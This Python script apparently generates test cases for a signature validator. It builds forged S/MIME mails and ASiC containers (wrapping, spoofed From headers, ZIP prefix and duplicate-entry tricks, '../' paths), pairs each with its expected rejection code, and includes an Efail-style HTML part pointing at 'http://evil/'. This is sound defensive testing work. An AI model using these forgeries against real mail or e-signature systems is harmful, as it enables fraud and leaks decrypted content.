#!/usr/bin/env python3
"""forge_mail.py: S/MIME mail and ASiC containers forged, and honest ones.

  forge_mail.py NBAUDIT PKI [FOLDER]

Sources: Mueller et al., "Johnny, you are fired!" (USENIX Security 2019):
wrapping, partial signatures, From and signer; Poddebniak et al., "Efail"
(2018); RFC 8550 3, RFC 8551, RFC 1847; EN 319 162-1; CVE-2021-25633 and its
kin for ZIP: two names, two directories, prefixes.
"""
import base64, re, zipfile

from forge import (DSIG, EXC, INC, XENC, an_object, attached, b64, c14n, dsig, judge, pack, reference, sha256, signed_data,
                   signer_info, to, transform, x509data, xades)

MAIL = "nvan@khanhhoa.gov.vn"       # in the certificate of "an"

def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()

def entity(text, kind="text/plain; charset=utf-8"):
    return crlf("Content-Type: %s\n\n%s\n" % (kind, text))

def head(kind, sender="An <%s>" % MAIL, more=""):
    return crlf("From: %s\nTo: binh@khanhhoa.gov.vn\nSubject: Chuyen tien\nDate: Sat, 28 Nov 2026 08:00:00 +0700\n%s"
                "MIME-Version: 1.0\nContent-Type: %s\n\n" % (sender, more, kind))

def b64lines(der):
    return base64.encodebytes(der).replace(b"\n", b"\r\n")

def p7s(der, kind="application/pkcs7-signature"):
    return (crlf("Content-Type: %s; name=smime.p7s\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; "
                 "filename=smime.p7s\n\n" % kind) + b64lines(der))

def multi(boundary, parts, before=b"", after=b""):
    b = boundary.encode()
    return (before + b"".join(b"--" + b + b"\r\n" + p + b"\r\n" for p in parts) + b"--" + b + b"--\r\n" + after)

SIGNED = 'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=%s'

def cms_over(data, who="an"):
    return signed_data([signer_info(data, who)], [who])

def signed_parts(content, who="an", der=None):
    return [content, p7s(der or cms_over(content, who))]

PAY = entity("Pay 100")
EVIL = entity("Pay 999")

def mail(parts=None, sender="An <%s>" % MAIL, kind=None, more="", **k):
    return head(kind or SIGNED % "out", sender, more) + multi("out", parts or signed_parts(PAY), **k), "m.eml"

def inner(boundary, parts):
    """A signed message as a part of another."""
    return crlf("Content-Type: %s\n\n" % (SIGNED % boundary)) + multi(boundary, parts)

def mixed(*parts, kind="multipart/mixed; boundary=out"):
    return mail(list(parts), kind=kind)

def opaque(content, who="an", sender="An <%s>" % MAIL, kind="application/pkcs7-mime; smime-type=signed-data; name=smime.p7m",
           der=None):
    der = der or signed_data([signer_info(content, who)], [who], content)
    return (head(kind, sender, "Content-Transfer-Encoding: base64\n") + b64lines(der)), "m.eml"

def signature_holds(other):
    """The signature is an attached one: over what it holds, not over the part before it."""
    return mail(signed_parts(EVIL, der=signed_data([signer_info(other)], ["an"], other)))

def efail():
    return mixed(entity('<img src="http://evil/', "text/html"), inner("in", signed_parts(PAY)), entity('">', "text/html"))

def as_lf(made):
    octets, name = made
    return octets.replace(b"\r\n", b"\n"), name

def edited(old, new):
    def make():
        octets, name = mail()
        if old not in octets:
            raise SystemExit("nothing to edit: %r" % old)
        return octets.replace(old, new, 1), name
    return make

def footer():
    """What a mailing list appends: a part of its own around the signed one."""
    return mixed(inner("in", signed_parts(PAY)), entity("-- \nThe list"))

MAILS = [
    ("content changed", lambda: mail(signed_parts(EVIL, der=cms_over(PAY))), "DIGEST_MISMATCH"),
    ("a part before", lambda: mail([EVIL] + signed_parts(PAY)), "CONTAINER_RULES|DIGEST_MISMATCH|FORMAT_UNSUPPORTED"),
    ("a part behind", lambda: mail(signed_parts(PAY) + [EVIL]), "CONTAINER_RULES|PARTIAL_COVERAGE"),
    ("a part between", lambda: mail([PAY, EVIL, p7s(cms_over(PAY))]), "CONTAINER_RULES|FORMAT_UNSUPPORTED"),
    ("parts exchanged", lambda: mail(signed_parts(PAY)[::-1]), "CONTAINER_RULES|FORMAT_UNSUPPORTED"),
    ("wrapped, text before", lambda: mixed(EVIL, inner("in", signed_parts(PAY))), "PARTIAL_COVERAGE"),
    ("wrapped, text behind", lambda: mixed(inner("in", signed_parts(PAY)), EVIL), "PARTIAL_COVERAGE"),
    ("wrapped, an alternative", lambda: mixed(inner("in", signed_parts(PAY)), EVIL, kind="multipart/alternative; boundary=out"), "PARTIAL_COVERAGE"),
    ("wrapped, related to another root", lambda: mixed(EVIL, inner("in", signed_parts(PAY)), kind="multipart/related; boundary=out"), "PARTIAL_COVERAGE"),
    ("Efail, parts that join", efail, "PARTIAL_COVERAGE"),
    ("signed by a stranger around", lambda: mail(signed_parts(multi_part(), "quang"), "An <%s>" % MAIL), "NO_CHAIN"),
    ("two signed parts", lambda: mixed(inner("in", signed_parts(PAY)), inner("on", signed_parts(EVIL, "quang"))), "PARTIAL_COVERAGE"),
    ("the signature holds something else", lambda: signature_holds(b"ok"), "DIGEST_MISMATCH|CONTAINER_RULES|PARTIAL_COVERAGE"),
    ("From another", lambda: mail(sender="Giam doc <boss@khanhhoa.gov.vn>"), "MAIL_SENDER"),
    ("From another, the address as a name", lambda: mail(sender='"%s" <boss@evil.example>' % MAIL), "MAIL_SENDER"),
    ("From another, the address as a comment", lambda: mail(sender="boss@evil.example (%s)" % MAIL), "MAIL_SENDER"),
    ("From two", lambda: mail(sender="An <%s>, Boss <boss@evil.example>" % MAIL), "MAIL_SENDER"),
    ("From twice", lambda: mail(more="From: Boss <boss@evil.example>\n"), "MAIL_SENDER"),
    ("From twice, the other first", lambda: mail(sender="Boss <boss@evil.example>", more="From: An <%s>\n" % MAIL), "MAIL_SENDER"),
    ("From with a lookalike", lambda: mail(sender="An <nvan@khanhhoa.gov.vn.evil.example>"), "MAIL_SENDER"),
    ("opaque, From another", lambda: opaque(PAY, sender="boss@evil.example"), "MAIL_SENDER"),
    ("opaque, content changed", lambda: opaque(PAY, der=signed_data([signer_info(PAY)], ["an"], EVIL)), "DIGEST_MISMATCH"),
    ("opaque, a multipart changed", lambda: opaque(PAY, der=signed_data([signer_info(inner("in", [PAY]))], ["an"], inner("in", [EVIL]))), "DIGEST_MISMATCH"),
    ("opaque, beside a text", lambda: mixed(EVIL, crlf("Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\n"
     "Content-Transfer-Encoding: base64\n\n") + b64lines(signed_data([signer_info(PAY)], ["an"], PAY))), ""),
    ("content type of the whole changed", edited(b"multipart/signed", b"multipart/mixed"), ""),
    ("content type of the part changed", edited(b"Content-Type: text/plain", b"Content-Type: text/html"), "DIGEST_MISMATCH"),
    ("encoding of the part added", lambda: mail(signed_parts(PAY.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"), der=cms_over(PAY))), "DIGEST_MISMATCH"),
    ("certificate of another", lambda: mail([PAY, p7s(signed_data([signer_info(PAY, "quang")], ["an"]))]), ""),
    ("a line more in the part", edited(b"Pay 100", b"Pay 100\r\n000"), "DIGEST_MISMATCH"),
    ("a gateway's footer in the part", edited(b"Pay 100\r\n", b"Pay 100\r\n-- \r\nScanned\r\n"), "DIGEST_MISMATCH"),
]

def multi_part():
    return inner("in", signed_parts(PAY))

MAILS_HONEST = [
    ("signed", mail, "TOTAL-PASSED"), ("signed, kept with LF", lambda: as_lf(mail()), "TOTAL-PASSED"),
    ("opaque", lambda: opaque(PAY), "TOTAL-PASSED"),
    ("opaque, a multipart", lambda: opaque(crlf("Content-Type: multipart/mixed; boundary=in\n\n") + multi("in", [PAY, PAY])), "TOTAL-PASSED"),
    ("a sentence before the parts", lambda: mail(before=b"This is an S/MIME signed message\r\n\r\n"), "TOTAL-PASSED"),
    ("the old content type", lambda: mail([PAY, p7s(cms_over(PAY), "application/x-pkcs7-signature")]), "TOTAL-PASSED"),
    ("From in capitals", lambda: mail(sender="An <NVAN@KhanhHoa.gov.vn>"), "TOTAL-PASSED"),
    ("From without a name", lambda: mail(sender=MAIL), "TOTAL-PASSED"),
    ("From in Vietnamese", lambda: mail(sender="=?utf-8?B?Tmd1eeG7hW4sIEFu?= <%s>" % MAIL), "TOTAL-PASSED"),
    ("sent by a secretary", lambda: mail(sender="Van thu <vt@khanhhoa.gov.vn>", more="Sender: <%s>\n" % MAIL), "TOTAL-PASSED"),
    ("a certificate without an address", lambda: mail(signed_parts(PAY, "thu"), "Thu <thu@khanhhoa.gov.vn>"), "TOTAL-PASSED"),
    ("in two layers", lambda: mail(signed_parts(multi_part())), "TOTAL-PASSED"),
    ("a list's footer", footer, "PARTIAL_COVERAGE"),
]

# ASiC.

ASIC_S, ASIC_E = b"application/vnd.etsi.asic-s+zip", b"application/vnd.etsi.asic-e+zip"
A, B, X = ("a.txt", b"Pay 100\n"), ("b.txt", b"to An\n"), ("a.txt", b"Pay 999\n")

def xades_file(files, who="an", refs=None, objects="", **k):
    refs = refs if refs is not None else [reference(n.replace(" ", "%20"), d) for n, d in files]
    return ('<asic:XAdESSignatures xmlns:asic="http://uri.etsi.org/02918/v1.2.1#">%s</asic:XAdESSignatures>'
            % xades(refs, objects, who, **k)).encode()

def asic_e(files, covered=None, more=(), sig=None, first=(), mime=ASIC_E, method=zipfile.ZIP_DEFLATED):
    sig = sig or xades_file(covered if covered is not None else files)
    head_ = [("mimetype", mime)] if mime else []
    return pack([*head_, *first, *files, ("META-INF/signatures.xml", sig), *more], method)

def own_object(how):
    o = an_object('<ok xmlns="urn:o">100</ok>', "obj")
    if how == "bare":
        return asic_e([A, B], sig=('<asic:XAdESSignatures xmlns:asic="http://uri.etsi.org/02918/v1.2.1#">%s</asic:XAdESSignatures>'
                                   % dsig([to(o, "#obj")], o)).encode())
    return asic_e([A, B], sig=xades_file([], refs=[to(o, "#obj")], objects=o))

def attached_cades(kind, content):
    name = "META-INF/signature1.p7s" if kind == ASIC_E else "META-INF/signature.p7s"
    more = [("META-INF/ASiCManifest1.xml", manifest([X]))] if kind == ASIC_E else []
    return pack([("mimetype", kind), X, *more, (name, signed_data([signer_info(content)], ["an"], content))])

def manifest(files, sig="META-INF/signature1.p7s"):
    return ('<asic:ASiCManifest xmlns:asic="http://uri.etsi.org/02918/v1.2.1#"><asic:SigReference URI="%s"></asic:SigReference>%s'
            "</asic:ASiCManifest>" % (sig, "".join(
                '<asic:DataObjectReference URI="%s"><DigestMethod xmlns="%s" Algorithm="%ssha256"></DigestMethod><DigestValue xmlns="%s">'
                "%s</DigestValue></asic:DataObjectReference>" % (n, DSIG, XENC, DSIG, b64(sha256(d))) for n, d in files))).encode()

def cades_e(files, covered=None, man=None, sig=None, more=(), over=None):
    m = man or manifest(covered if covered is not None else files)
    return pack([("mimetype", ASIC_E), *files, ("META-INF/ASiCManifest1.xml", m),
                 ("META-INF/signature1.p7s", sig or cms_over(over or m)), *more])

def moved_in():
    """The manifest and the signature of another container, beside its own."""
    m = manifest([("c.txt", b"c")], "META-INF/signature2.p7s")
    return cades_e([X, B], [A, B], more=[("META-INF/ASiCManifest2.xml", m), ("META-INF/signature2.p7s", cms_over(m))])

def manifests_swapped():
    m, n = manifest([A]), manifest([X])
    return pack([("mimetype", ASIC_E), X, ("META-INF/ASiCManifest1.xml", n), ("META-INF/ASiCManifest2.xml", m.replace(b"signature1", b"signature1")),
                 ("META-INF/signature1.p7s", cms_over(m))])

def manifest_names_nothing():
    """The signed manifest names another signature: it is taken for this one's only when nothing else is there."""
    m = manifest([A], "META-INF/signature9.p7s")
    return cades_e([A], man=m, sig=cms_over(m))

def prefixed(data):
    def make():
        b = asic_e([A, B])
        # Offsets as they were: a reader counts from the first header that it finds.
        return data + b
    return make

def shifted(data):
    def make():
        b = bytearray(data + asic_e([A, B]))
        n, at = len(data), b.rindex(b"PK\5\6")
        off = int.from_bytes(b[at + 16:at + 20], "little") + n
        b[at + 16:at + 20] = off.to_bytes(4, "little")
        while b[off:off + 4] == b"PK\1\2":
            h = int.from_bytes(b[off + 42:off + 46], "little") + n
            b[off + 42:off + 46] = h.to_bytes(4, "little")
            off += 46 + sum(int.from_bytes(b[off + i:off + i + 2], "little") for i in (28, 30, 32))
        return bytes(b)
    return make

def header_differs(offset, value):
    """The local header of a.txt says something else than the directory."""
    def make():
        b = bytearray(asic_e([A, B], method=zipfile.ZIP_STORED))
        at = b.index(b"a.txt") - 30
        b[at + offset:at + offset + len(value)] = value
        return bytes(b)
    return make

def in_comment():
    b = asic_e([A, B])
    evil = asic_e([X, B], [A, B])
    return b[:-2] + len(evil).to_bytes(2, "little") + evil

def container_in_container():
    return pack([("mimetype", ASIC_E), ("inner.asice", asic_e([A, B])), X])

def wrapped_data():
    """The signed file below another folder, another in its place."""
    return asic_e([X, ("old/a.txt", A[1]), B], [A, B])

ASICS = [
    ("E XAdES, member changed", lambda: asic_e([X, B], [A, B]), "XML_REFERENCE"),
    ("E XAdES, member added", lambda: asic_e([A, B, ("c.txt", b"x")], [A, B]), "PARTIAL_COVERAGE"),
    ("E XAdES, member removed", lambda: asic_e([B], [A, B]), "XML_REFERENCE_ABSENT"),
    ("E XAdES, moved, another in its place", wrapped_data, "XML_REFERENCE"),
    ("E XAdES, an object of its own", lambda: own_object("bare"), "PARTIAL_COVERAGE"),
    ("E XAdES, an object of its own, with properties", lambda: own_object("xades"), "PARTIAL_COVERAGE"),
    ("E XAdES, no reference", lambda: asic_e([A], sig=xades_file([], refs=[])), "PARTIAL_COVERAGE"),
    ("E XAdES, a comment in its name", lambda: asic_e([("a.txt#x", X[1]), A, B], [A, B]), "PARTIAL_COVERAGE"),
    ("E XAdES, an escape in its name", lambda: asic_e([("%61.txt", X[1]), A, B], [A, B]), "PARTIAL_COVERAGE"),
    ("E XAdES, another case", lambda: asic_e([("A.txt", X[1]), A, B], [A, B]), "PARTIAL_COVERAGE"),
    ("E XAdES, a dot before", lambda: asic_e([("./a.txt", X[1]), A, B], [A, B]), "PARTIAL_COVERAGE"),
    ("E XAdES, twice, evil last", lambda: asic_e([A, B], more=[X]), "CONTAINER_AMBIGUOUS"),
    ("E XAdES, twice, evil first", lambda: asic_e([A, B], first=[X]), "CONTAINER_AMBIGUOUS"),
    ("E XAdES, signatures twice", lambda: asic_e([A, B], more=[("META-INF/signatures.xml", b"<x/>")]), "CONTAINER_AMBIGUOUS"),
    ("E XAdES, a stranger's beside", lambda: asic_e([A, B], more=[("META-INF/signatures2.xml", xades_file([A, B], "quang"))]), "NO_CHAIN"),
    ("E XAdES, a stranger's certificate first", lambda: asic_e([A, B], sig=xades_file([A, B], "quang", keyinfo=x509data("an", "quang"))), ""),
    ("E XAdES, said to be ASiC-S", lambda: asic_e([A, B], mime=ASIC_S), "CONTAINER_RULES"),
    ("E XAdES, data hidden in META-INF", lambda: asic_e([A, B], [A, B, X], more=[("META-INF/a.txt", X[1])], sig=xades_file([A, ("META-INF/a.txt", A[1])])), ""),
    ("E XAdES, prefix", prefixed(b"%PDF-1.7\n%evil\n" + b" " * 40), ""),
    ("E XAdES, prefix that the offsets know", shifted(b"#!/bin/sh\nevil\nexit\n" + b" " * 20), ""),
    ("E XAdES, another in the comment", in_comment, "CONTAINER_AMBIGUOUS"),
    ("E XAdES, local name", header_differs(30, b"z"), "CONTAINER_AMBIGUOUS"),
    ("E XAdES, local method", header_differs(8, b"\x08\0"), "CONTAINER_AMBIGUOUS"),
    ("E XAdES, local size", header_differs(18, b"\x03\0\0\0\x03\0\0\0"), "CONTAINER_AMBIGUOUS"),
    ("E, container in container", container_in_container, ""),
    ("S attached, over something else", lambda: attached_cades(ASIC_S, b"ok"), "PARTIAL_COVERAGE"),
    ("E attached, over something else", lambda: attached_cades(ASIC_E, b"ok"), "PARTIAL_COVERAGE"),
    ("E attached, over another manifest", lambda: attached_cades(ASIC_E, manifest([A])), "PARTIAL_COVERAGE"),
    ("E CAdES, another container's moved in", moved_in, "XML_REFERENCE|XML_REFERENCE_ABSENT"),
    ("E CAdES, manifests swapped", manifests_swapped, "DIGEST_MISMATCH"),
    ("E CAdES, manifest of another's signature", manifest_names_nothing, "CONTAINER_RULES|PARTIAL_COVERAGE"),
    ("E CAdES, manifest without entries", lambda: cades_e([X], []), "PARTIAL_COVERAGE"),
    ("E CAdES, signature over the data alone", lambda: cades_e([X, B], [A, B], over=B[1]), "DIGEST_MISMATCH"),
    ("E CAdES, an entry twice, the right one last", lambda: cades_e([X, B], man=manifest([X, A, B])), "XML_REFERENCE|DIGEST_MISMATCH"),
    ("E CAdES, an entry twice, the right one first", lambda: cades_e([X, B], man=manifest([A, X, B])), "XML_REFERENCE|DIGEST_MISMATCH"),
    ("E CAdES, an entry by another name too", lambda: cades_e([A, B, ("%61.txt", X[1])], man=manifest([("%61.txt", A[1]), B])), ""),
    ("E CAdES, a folder in the manifest", lambda: cades_e([A, B, ("doc/x.txt", X[1])], man=manifest([A, B, ("doc/", b"")])), "PARTIAL_COVERAGE"),
    ("E CAdES, names composed otherwise", lambda: cades_e([("\u00e1.txt", X[1]), ("a\u0301.txt", A[1])], man=manifest([("a\u0301.txt", A[1])])), "PARTIAL_COVERAGE"),
    ("E CAdES, an address outside", lambda: cades_e([X, B], man=manifest([("http://evil.example/a.txt", A[1]), B])), ""),
    ("E CAdES, two manifests for one signature", lambda: cades_e([X, B], [A, B], more=[("META-INF/ASiCManifest0.xml", manifest([X, B]))]), ""),
    ("E CAdES, an archive's manifest alone", lambda: pack([("mimetype", ASIC_E), X, ("META-INF/ASiCArchiveManifest.xml", manifest([X])),
     ("META-INF/signature1.p7s", cms_over(manifest([A])))]), ""),
    ("E XAdES, an entry twice", lambda: asic_e([X, B], sig=xades_file([A, X, B])), "XML_REFERENCE"),
    ("E XAdES, a name with a query", lambda: asic_e([A, B, ("a.txt?x", X[1])], sig=xades_file([], refs=[reference("a.txt?x", A[1]), reference("b.txt", B[1])])), ""),
    ("E CAdES, a way out", lambda: cades_e([A], [("../a.txt", A[1])]), ""),
]

ASICS_HONEST = [
    ("E XAdES, mimetype of another", lambda: asic_e([A, B], mime=b"application/pdf"), ""),
    ("E XAdES", lambda: asic_e([A, B]), "TOTAL-PASSED"),
    ("E XAdES, no mimetype", lambda: asic_e([A, B], mime=None), "TOTAL-PASSED"),
    ("E XAdES, names with spaces", lambda: asic_e([("a b.txt", b"x"), ("C\u00f4ng v\u0103n.txt", b"y")]), "TOTAL-PASSED"),
    ("E XAdES, two files of signatures", lambda: asic_e([A, B], more=[("META-INF/signatures2.xml", xades_file([A, B], "binh"))]), "TOTAL-PASSED"),
    ("E CAdES", lambda: cades_e([A, B]), "TOTAL-PASSED"),
    ("S XAdES", lambda: asic_e([A], mime=ASIC_S), "TOTAL-PASSED"),
    ("S CAdES, attached, the same", lambda: pack([("mimetype", ASIC_S), A, ("META-INF/signature.p7s", attached(A[1]))]), "TOTAL-PASSED"),
    ("E in E", lambda: asic_e([("inner.asice", asic_e([A])), B]), "TOTAL-PASSED"),
    ("a folder's entry", lambda: asic_e([A, B], first=[("doc/", b"")]), "TOTAL-PASSED"),
]

if __name__ == "__main__":
    judge([("mail, " + r[0], *r[1:]) for r in MAILS] + [("ASiC, " + r[0], *r[1:]) for r in ASICS],
          [("mail, honest: " + r[0], *r[1:]) for r in MAILS_HONEST] + [("ASiC, honest: " + r[0], *r[1:]) for r in ASICS_HONEST])
